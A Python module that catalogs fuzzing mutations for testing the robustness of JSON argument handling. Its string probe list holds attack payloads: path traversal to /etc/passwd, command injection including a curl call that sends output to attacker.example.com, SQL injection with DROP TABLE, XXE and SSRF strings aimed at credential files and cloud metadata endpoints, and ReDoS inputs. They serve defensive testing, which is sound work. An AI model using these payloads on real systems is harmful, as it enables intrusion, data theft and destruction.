"""Catalog of argument mutations for boundary cases, as (type group, label, JSON text) rows."""

import json

# Probe strings by group, for defensive robustness tests of string fields.
STRING_PROBES = {
    "path_traversal": [
        "../../../etc/passwd",
        "../../etc/passwd",
        "....//....//etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..\\..\\..\\windows\\system32\\cmd.exe",
        "/etc/passwd",
        "C:\\Windows\\System32\\cmd.exe",
    ],
    "command_injection": [
        "; ls -la",
        "| cat /etc/passwd",
        "& whoami",
        "`id`",
        "$(whoami)",
        "$(cat /etc/passwd)",
        "\nls -la",
        "; curl http://attacker.example.com/$(whoami)",
    ],
    "sql_injection": [
        "' OR '1'='1",
        "'; DROP TABLE users; --",
        "1 UNION SELECT null,null,null--",
        "1' AND SLEEP(5)--",
        '" OR "1"="1',
        "\\x27 OR 1=1",
    ],
    "ldap_injection": ["*)(uid=*))(|(uid=*", "*()|%26'", "admin)(&)", "*)(|(password=*))"],
    "nosql_injection": [
        '{"$gt": ""}',
        '{"$where": "1==1"}',
        '{"$ne": null}',
        "';return 'a'=='a' && ''=='",
    ],
    "format_string": ["%s%s%s%s%n", "%x%x%x%x", "{0}", "{{}}"],
    "template_injection": ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "*{7*7}"],
    "xml_injection": [
        "]]><![CDATA[<script>alert(1)</script>]]>",
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "<foo>&xxe;</foo>",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://169.254.169.254/metadata/v1/",
        "http://127.0.0.1/",
        "http://localhost/",
        "http://0.0.0.0/",
        "http://[::1]/",
        "http://192.168.1.1/",
        "http://10.0.0.1/",
        "http://172.16.0.1/",
        "file:///etc/passwd",
        "file://localhost/etc/shadow",
        "gopher://127.0.0.1:6379/_PING",
        "dict://127.0.0.1:6379/info",
    ],
    "redos": [
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa@b",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa@aaaaaaaaa",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaax",
    ],
}

# Integer boundaries.
INTEGER_BOUNDARIES = [
    0, 1, -1, 127, 128, -128, -129, 255, 256, -256, 32767, 32768, -32768, -32769, 65535, 65536,
    2147483647, -2147483648, 2147483648, 4294967295, 9223372036854775807, -9223372036854775808,
]

# The other mutations of each type, as label and value.
STRING_BASICS = [
    ("empty", ""), ("single_space", " "), ("null_byte", "\0"), ("unicode_rtl_override", "\u202eattack"),
    ("unicode_bom", "\ufeffpayload"), ("long_256", "A" * 256), ("long_64k", "A" * 65536),
    ("null_value", None), ("integer_value", 0), ("array_value", []),
]
NUMBER_BASICS = [
    ("float", 1.5), ("nan_string", "NaN"), ("inf_string", "Infinity"), ("null_value", None),
    ("string_value", "not_a_number"), ("boolean_value", True),
]
BOOLEAN_BASICS = [
    ("true", True), ("false", False), ("string_true", "true"), ("string_false", "false"), ("integer_1", 1),
    ("integer_0", 0), ("null_value", None),
]
ARRAY_BASICS = [
    ("empty", []), ("single_null", [None]), ("large", list(range(1000))), ("deeply_nested", [[[[[]]]]]),
    ("null_value", None), ("string_value", "not_an_array"),
]
OBJECT_BASICS = [
    ("empty", {}), ("extra_field", {"__fuzz_extra__": "unexpected"}),
    ("deeply_nested", {"a": {"b": {"c": {"d": "deep"}}}}), ("null_value", None),
    ("string_value", "not_an_object"), ("array_value", []),
]
OTHER_BASICS = [("null", None), ("empty_string", "")]

# Default of each type, and the strings used in generated cases.
TYPE_DEFAULTS = {
    "string": "fuzz_default", "integer": 0, "number": 0, "boolean": False, "array": [], "object": {},
}
INVALID_ENUM = "__fuzz_invalid_enum_value__"
UNKNOWN_FIELD = ("__fuzz_unknown_field__", "unexpected_value")


def to_json_text(value) -> str:
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))


def catalog() -> list[tuple[str, str, str]]:
    """All fixed mutations as (type group, label, JSON text)."""
    probes = [(f"{g}:{i}", s) for g, strings in STRING_PROBES.items() for i, s in enumerate(strings)]
    bounds = [(f"int:{n}", n) for n in INTEGER_BOUNDARIES]
    groups = {
        "string": STRING_BASICS + probes,
        "number": bounds + NUMBER_BASICS,
        "boolean": BOOLEAN_BASICS,
        "array": ARRAY_BASICS,
        "object": OBJECT_BASICS,
        "other": OTHER_BASICS,
    }
    return [(g, label, to_json_text(v)) for g, rows in groups.items() for label, v in rows]
